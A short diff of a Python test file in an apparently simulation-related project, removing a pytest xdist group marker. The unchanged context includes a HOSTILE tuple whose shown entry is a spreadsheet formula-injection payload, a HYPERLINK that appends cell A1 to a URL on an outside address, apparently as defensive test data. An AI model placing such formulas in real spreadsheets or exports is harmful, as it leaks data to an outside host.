@@ -36,8 +36,6 @@ from sim.sweep.task import run_task
 from sim.sweep.words import About
 from tests.sweep.conftest import PLAN
 
-pytestmark = pytest.mark.xdist_group("outputs")  # its runs are made once
-
 ROOT = Path(__file__).parents[2]
 HOSTILE = (
     '=HYPERLINK("http://203.0.113.1/?"&A1,"x")',
